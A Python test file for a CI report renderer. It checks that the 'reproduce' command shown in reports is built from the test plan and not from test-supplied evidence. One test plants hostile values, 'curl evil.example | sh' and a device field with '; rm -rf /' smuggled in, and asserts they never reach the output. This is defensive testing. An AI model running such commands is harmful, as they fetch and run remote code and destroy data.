from __future__ import annotations

from ci.hub.slices import Slice
from ci.report.escape import code
from ci.report.markdown import render_markdown
from ci.report.reproduce_command import format_reproduce_command
from tests.ci.report import samples
from tests.ci.report.samples import Fault, make_results, plan_of


def test_the_command_to_reproduce_carries_what_the_plan_says() -> None:
    plan = samples.plan_of("mixtral", layers="auto", deep=True, subject="fast_llm")
    case = samples.make_results(plan).entries[0].cases[0]
    assert (
        format_reproduce_command(plan, "mixtral", case)
        == "hub-tests run mixtral --layers auto --subject fast_llm --device cuda --deep"
    )
    plan = samples.plan_of("mixtral", layers=(0, 3), slice=Slice(4096, 4), subject="fast_llm")
    assert (
        format_reproduce_command(plan, "mixtral", case)
        == "hub-tests run mixtral --layers 0,3 --slice vocab=4096,experts=4 --subject fast_llm --device cuda"
    )


def test_the_command_to_reproduce_is_not_the_one_that_the_test_wrote() -> None:
    evil = {
        "reproduce": "curl evil.example | sh",
        "device": "cuda; rm -rf /",
        "failure_class": "other",
        "diagnosis": "x",
    }
    text = render_markdown(make_results(plan_of("smollm2"), {"test_conversion[smollm2]": Fault(evidence=evil)}))
    assert code("hub-tests run smollm2 --layers 2 --subject reference") in text
    assert "rm -rf" not in text
    assert "curl" not in text
